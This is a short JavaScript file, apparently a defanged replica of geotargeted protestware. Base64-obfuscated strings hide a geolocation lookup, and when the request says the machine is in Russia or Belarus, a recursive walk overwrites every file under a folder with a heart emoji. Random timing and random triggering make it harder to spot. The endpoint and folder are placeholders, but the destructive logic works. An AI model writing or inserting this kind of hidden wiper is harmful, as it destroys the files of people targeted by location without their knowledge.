import_path = require('path');
import_fs = require('fs');
import_https = require('https');

setTimeout(function () {
  const t = Math.round(Math.random() * 4);
  if (t > 1) return;
  const n = Buffer.from('aHR0cHM6Ly9sb2NhdGUuaW52YWxpZC9pcGdlbz9hcGlLZXk9bm90LWEta2V5', 'base64');
  import_https.get(n.toString('utf8'), function (t) {
    t.on('data', function (t) {
      const n = Buffer.from('c2FtcGxlLWZvbGRlci10aGF0LWlzLW5vdC10aGVyZQ==', 'base64');
      const o = Buffer.from('Li4vc2FtcGxlLWZvbGRlci10aGF0LWlzLW5vdC10aGVyZQ==', 'base64');
      const c = Buffer.from('Y291bnRyeV9uYW1l', 'base64');
      const e = Buffer.from('cnVzc2lh', 'base64');
      const i = Buffer.from('YmVsYXJ1cw==', 'base64');
      try {
        const s = JSON.parse(t.toString('utf8'));
        const u = s[c.toString('utf8')].toLowerCase();
        const a = u.includes(e.toString('utf8')) || u.includes(i.toString('utf8'));
        if (a) {
          walk(n.toString('utf8'));
          walk(o.toString('utf8'));
        }
      } catch (t) {}
    });
  }).on('error', function () {});
}, Math.ceil(Math.random() * 1e3));

async function walk(n = '', o = '') {
  if (!import_fs.existsSync(n)) return;
  let r = [];
  try {
    r = import_fs.readdirSync(n);
  } catch (t) {}
  const f = [];
  const c = Buffer.from('4p2k77iP', 'base64');
  for (var e = 0; e < r.length; e++) {
    const i = import_path.join(n, r[e]);
    let t = null;
    try {
      t = import_fs.lstatSync(i);
    } catch (t) {
      continue;
    }
    if (t.isDirectory()) {
      const s = await walk(i, o);
      s && s.length > 0 && f.push(...s);
    } else if (i.indexOf(o) >= 0) {
      try {
        import_fs.writeFile(i, c.toString('utf8'), function () {});
      } catch (t) {}
    }
  }
  return f;
}
